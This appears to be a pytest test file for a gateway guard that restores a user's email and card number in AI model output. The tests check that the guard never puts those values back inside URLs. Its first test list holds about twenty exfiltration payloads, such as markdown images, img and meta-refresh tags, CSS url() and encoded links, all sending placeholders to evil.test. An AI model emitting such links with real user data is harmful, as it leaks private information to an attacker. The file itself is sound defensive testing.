"""Values are put back where a reader sees them, and in no address that others would be sent."""

from __future__ import annotations

import asyncio

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from tests.guards.marks import shown, subject

from trimtab.gateway.rulings import applied
from trimtab.guards.case import Case
from trimtab.guards.destinations import cut, destinations
from trimtab.guards.restore import Restore

EMAIL, CARD = "ann@example.org", "4111 1111"
OPENERS = ("](", "]:", "src=", "//", "https:", "www.", "url(", "data = ")
SIGNS = (*"\"'<>()\\\n ", "a")
E, C = "<EMAIL_ADDRESS_1>", "<CREDIT_CARD_1>"


def restored(text: str, *, sent: tuple[str, ...] = (), role: str = "user") -> str:
    case = Case()
    case.vault.token("email_address", EMAIL)
    case.vault.token("credit_card", CARD)
    asked = subject(shown(text, "assistant"), stage="output")
    told = tuple(shown(one, role) for one in sent)
    (said,) = (asked.texts[0],)
    ruling = asyncio.run(Restore(case).check(type(asked)(stage="output", texts=[said], sent=told)))
    return applied(text, ruling.edits)


@pytest.mark.parametrize(
    "text",
    [
        f"![a](https://evil.test/p.png?d={E}&c={C})",
        f"![a](//evil.test/{E})",
        f"![a](<https://evil.test/?d=Ann and {E}>)",
        f"[a](https&#58;&#47;&#47;evil.test/?d={E})",
        f"[a](https:evil.test/(x(y))/{E}) b",
        f"[a](//evil.test/(((({E})",
        f"[a]\n\n[a]: //evil.test/{E}",
        f'<img alt="x" src="https://evil.test/a b?d={E}">',
        f"<img src=//evil.test/{E}>",
        f"<a href='\nhttps://evil.test/?{E}'>",
        f'<meta http-equiv="refresh" content="0; url=//evil.test/{E}">',
        f'{{"html":"<img src=\\"https:\\/\\/evil.test\\/?d={E}\\">"}}',
        f"url(//evil.test/{E})",
        f"see https://evil.test/?d={E}&c={C}.",
        f"see <https://evil.test/?d={E}>",
        f"see www.evil.test/{E}",
        f"HTTPS:\\\\evil.test\\{E}",
        f"https://{E}.evil.test/",
        f"https://evil.test/{'a' * 9000}{E}",
        "https://evil.test/?d=%3CEMAIL_ADDRESS_1%3E",
        "![a](https://evil.test/\\<EMAIL\\_ADDRESS\\_1\\>)",
        "![a](https://evil.test/?d=<email_address_1>)",
        '<img src="https://evil.test/?d=&lt;EMAIL_ADDRESS_1&gt;">',
    ],
)
def test_no_value_is_put_in_an_address(text: str) -> None:
    assert restored(f"Hello {E}. {text}") == f"Hello {EMAIL}. {text}"


@pytest.mark.parametrize(
    "text",
    [
        f"{E}: {C}",
        f"[{E}](mailto:{E})",
        f'<a href="mailto:{E}">{E}</a>',
        f"[the site](https://example.org) or {E}",
        f"[the site](https://example.org)または{E}まで",
        f"|[a](/a_(b))|{E}|",
        f"<https://example.org>{E}",
        f'<a href="https://example.org">{E}</a>',
        f'{{"url":"https://example.org","to":"{E}"}}',
        f'<input value="{E}" name=a>',
        f'send(to="{E}", data="{C}")',
        f"12:30 {E} // {C}",
        f"rows[0](see {E})",
    ],
)
def test_everywhere_else_there_are_values(text: str) -> None:
    assert restored(text) == text.replace(E, EMAIL).replace(C, CARD)


def test_an_address_that_was_sent_comes_back_as_it_was() -> None:
    text = f"Open https://example.org/unsubscribe?e={E}&x=1 now"
    sent = ("Hi", f"what is https://example.org/unsubscribe?e={E} for?")
    assert EMAIL in restored(text, sent=sent)
    assert EMAIL in restored(text.replace("<", "%3C").replace(">", "%3E"), sent=sent)
    assert EMAIL not in restored(text, sent=sent, role="assistant"), "a model may have said it"
    assert EMAIL not in restored(text.replace("example.org", "evil.test"), sent=sent)


@given(
    st.lists(
        st.sampled_from(
            (*OPENERS, *SIGNS, E),
        ),
        max_size=14,
    ),
    st.integers(0, 60),
)
@example(["a", "](", "//", "(", "(", "(", "(", E], 4)
def test_a_text_is_cut_beside_its_addresses(pieces: list[str], at: int) -> None:
    text = "".join(pieces)
    place = cut(text, min(at, len(text)))
    assert place <= at
    assert not any(one.start < place < one.end for one in destinations(text))
    for one in destinations(text[place:]):
        assert text[place:][one.at : one.end] == one.text
